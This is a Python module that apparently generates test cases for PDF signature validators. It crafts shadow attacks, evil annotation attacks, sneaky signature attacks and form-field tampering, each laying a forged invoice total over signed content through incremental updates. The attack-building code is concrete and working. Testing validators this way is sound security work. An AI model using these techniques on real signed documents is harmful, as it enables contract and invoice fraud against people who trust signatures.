"""Attacks that lay something over signed text: shadow (NDSS 2021), evil annotations and sneaky signatures (S&P 2021)."""

import pikepdf

from . import base
from .case import Case
from .update import File

RECT = b"%d %d %d %d" % base.TOTAL
NEW_TOTAL = b"Total 9.250,00 EUR"


def shadow_hide(file: File, signer: str):
    """Signed with a cover over other terms; the cover goes."""
    gone = base.stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 170 20] ")
    yield Case("shadow-hide", "cover-emptied", signer, file.update({base.COVER: gone}))
    yield Case("shadow-hide", "cover-freed", signer, file.update({}, freed=[base.COVER]))
    tiny = base.stream(b"q 1 g 0 0 170 20 re f Q", b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] ")
    yield Case("shadow-hide", "cover-clipped", signer, file.update({base.COVER: tiny}))
    fonts = b"<< /Font << /F1 %d 0 R >> /XObject << >> >>" % base.FONT
    yield Case("shadow-hide", "resource-removed", signer, file.update({base.PAGE: file.with_keys(base.PAGE, Resources=fonts)}))
    names = b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 1 /ColorSpace /DeviceGray /ImageMask true /Length 1 >>"
    mask = names.replace(b" /ColorSpace /DeviceGray", b"") + b"\nstream\n\xff\nendstream"
    yield Case("shadow-hide", "cover-becomes-mask", signer, file.update({base.COVER: mask}))


def shadow_replace(file: File, signer: str):
    """A field signed with one value and another look; and a font that spells otherwise."""
    form = file.form()
    yield Case("shadow-replace", "need-appearances", signer, file.update({form: file.with_keys(form, NeedAppearances=b"true")}))
    if not file.lists(base.AMOUNT):
        return
    value = bytes(file.pdf.get_object(base.AMOUNT, 0).V)
    yield Case("shadow-replace", "look-follows-value", signer, file.update({base.AMOUNT_LOOK: base.look(value)}))
    yield Case("shadow-replace", "look-removed", signer, file.update({base.AMOUNT: file.with_keys(base.AMOUNT, AP=None)}))


def shadow_font(file: File, signer: str):
    swapped = b"<< /Type /Encoding /Differences [49 /nine 57 /one] >>"
    font = file.with_keys(base.FONT, Encoding=swapped)
    yield Case("shadow-font", "digits-swapped", signer, file.update({base.FONT: font}))
    other = file.new()
    resources = b"<< /Font << /F1 %d 0 R >> /XObject << /Cover %d 0 R >> >>" % (other, base.COVER)
    objects = {other: font, base.PAGE: file.with_keys(base.PAGE, Resources=resources)}
    yield Case("shadow-font", "other-font", signer, file.update(objects))
    glyphs = file.with_keys(base.FONT, BaseFont=b"/ZapfDingbats")
    yield Case("shadow-font", "other-face", signer, file.update({base.FONT: glyphs}))


def shadow_switch(file: File, signer: str):
    """A second document planted before signing; the save only leads to it."""
    catalog = file.with_keys(file.root, Pages=b"%d 0 R" % base.OTHER_PAGES)
    yield Case("shadow-switch", "pages-of-catalog", signer, file.update({file.root: catalog}))
    yield Case("shadow-switch", "root-of-trailer", signer, file.relist({}, root=base.OTHER_CATALOG))
    place = file.data.index(b"%d 0 obj" % base.OTHER_CONTENTS)
    yield Case("shadow-switch", "entry-points-back", signer, file.relist({base.CONTENTS: place}))
    kids = b"[%d 0 R]" % base.OTHER_PAGE
    yield Case(
        "shadow-switch", "kids-of-pages", signer, file.update({base.PAGES: file.with_keys(base.PAGES, Kids=kids, Count=b"1")})
    )
    contents = file.with_keys(base.PAGE, Contents=b"%d 0 R" % base.OTHER_CONTENTS)
    yield Case("shadow-switch", "contents-of-page", signer, file.update({base.PAGE: contents}))


def _annotation(subtype: bytes, more: bytes = b"", look: int | None = None, rect: bytes = RECT) -> bytes:
    shown = b" /AP << /N %d 0 R >>" % look if look else b""
    kind = b" /Subtype %s" % subtype if subtype else b""
    return b"<< /Type /Annot%s /Rect [%s] /F 4 /M (D:20260401120000Z)%s%s >>" % (kind, rect, shown, more)


# Each kind of annotation that readers draw a look of; a pop-up's they do not (ISO 32000-2, 12.5.6.14).
KINDS = {
    "free-text": b"/FreeText",
    "stamp": b"/Stamp",
    "square": b"/Square",
    "circle": b"/Circle",
    "line": b"/Line",
    "polygon": b"/Polygon",
    "polyline": b"/PolyLine",
    "ink": b"/Ink",
    "highlight": b"/Highlight",
    "underline": b"/Underline",
    "strikeout": b"/StrikeOut",
    "squiggly": b"/Squiggly",
    "caret": b"/Caret",
    "note": b"/Text",
    "file": b"/FileAttachment",
    "redact": b"/Redact",
    "watermark": b"/Watermark",
    "link": b"/Link",
    "unknown": b"/Nothing",
    "escaped": b"/Free#54ext",
    "untyped": b"",
    "screen": b"/Screen",
    "projection": b"/Projection",
}


def evil_annotations(file: File, signer: str):
    """EAA: every kind of annotation laid over the total, with another total on it. Needs permission 3 or none."""
    for name, subtype in KINDS.items():
        note, look = file.new(), file.new()
        more = b" /DA (/F1 14 Tf 0 g) /Contents (%s)" % NEW_TOTAL
        objects = {note: _annotation(subtype, more, look), look: base.cover(NEW_TOTAL), base.PAGE: file.on_page(note)}
        yield Case("eaa", name, signer, file.update(objects))
    note, look = file.new(), file.new()
    objects = {note: _annotation(b"/FreeText", b"", look), look: base.cover(), base.PAGE: file.on_page(note)}
    yield Case("eaa", "blank-cover", signer, file.update(objects))
    first = {
        note: _annotation(b"/Square", b"", look, b"70 300 240 320"),
        look: base.cover(NEW_TOTAL),
        base.PAGE: file.on_page(note),
    }
    moved = File(file.update(first))
    yield Case("eaa", "moved-over-in-a-second-save", signer, moved.update({note: moved.with_keys(note, Rect=b"[%s]" % RECT)}))


def sneaky_signatures(file: File, signer: str):
    """SSA: the look of a further signature field laid over the total; nobody signs it, or the attacker does."""
    for name, shown in (("unsigned-with-text", NEW_TOTAL), ("unsigned-blank", b"")):
        field, look = file.new(), file.new()
        widget = b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Sneaky) /F 4 /P %d 0 R /Rect [%s] /AP << /N %d 0 R >> >>"
        form = file.form()
        fields = file.array(form, "/Fields") + b" %d 0 R" % field
        objects = {
            field: widget % (base.PAGE, RECT, look),
            look: base.cover(shown),
            base.PAGE: file.on_page(field),
            form: file.with_keys(form, Fields=b"[%s]" % fields),
        }
        yield Case("ssa", name, signer, file.update(objects))


def sneaky_signed(file: File, signer: str):
    """SSA, signed by the attacker with a certificate that anybody can make."""
    from .values import sign_field

    for name, shown in (("signed-with-text", NEW_TOTAL), ("signed-blank", b"")):
        yield Case("ssa", name, signer, sign_field(file, "Sneaky", RECT, base.cover(shown)))


def field_attacks(file: File, signer: str):
    """Fields filled, renamed, moved and added beyond what forms are for."""
    wide = b"<< /N %d 0 R >>"
    look = file.new()
    yield Case(
        "field",
        "moved-over-text",
        signer,
        file.update({look: base.cover(NEW_TOTAL), base.AMOUNT: file.with_keys(base.AMOUNT, Rect=b"[%s]" % RECT, AP=wide % look)}),
    )
    yield Case(
        "field",
        "value-and-look-differ",
        signer,
        file.update({look: base.look(b"9.250,00"), base.AMOUNT: file.with_keys(base.AMOUNT, V=b"(1.250,00)", AP=wide % look)}),
    )
    added = file.new()
    form = file.form()
    fields = file.array(form, "/Fields") + b" %d 0 R" % added
    text = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (new) /F 4 /P %d 0 R /Rect [%s] /V (%s) /AP << /N %d 0 R >> >>" % (
        base.PAGE,
        RECT,
        NEW_TOTAL,
        look,
    )
    yield Case(
        "field",
        "text-field-added",
        signer,
        file.update(
            {
                added: text,
                look: base.cover(NEW_TOTAL),
                base.PAGE: file.on_page(added),
                form: file.with_keys(form, Fields=b"[%s]" % fields),
            }
        ),
    )
    yield Case("field", "renamed", signer, file.update({base.NAME: file.with_keys(base.NAME, T=b"(other)")}))
    if file.lists(base.NAME):
        yield from _removed(file, form, signer)
    xfa = file.with_keys(form, XFA=b"(<xdp/>)")
    yield Case("field", "xfa-added", signer, file.update({form: xfa}))


def _removed(file: File, form: int, signer: str):
    kept = b" ".join(b"%d %d R" % f.objgen for f in file.pdf.Root.AcroForm.Fields if f.objgen[0] != base.NAME)
    yield Case("field", "removed", signer, file.update({form: file.with_keys(form, Fields=b"[%s]" % kept)}))


def appearance_of_seal(file: File, signer: str):
    """The look of the signature itself changed, or a look given to an invisible one."""
    field = file.signature_field
    look = file.new()
    widget = file.with_keys(field, AP=b"<< /N %d 0 R >>" % look, Rect=b"[%s]" % RECT, F=b"4")
    yield Case("seal", "look-over-text", signer, file.update({look: base.cover(NEW_TOTAL), field: widget}))
    assert isinstance(file.pdf, pikepdf.Pdf)
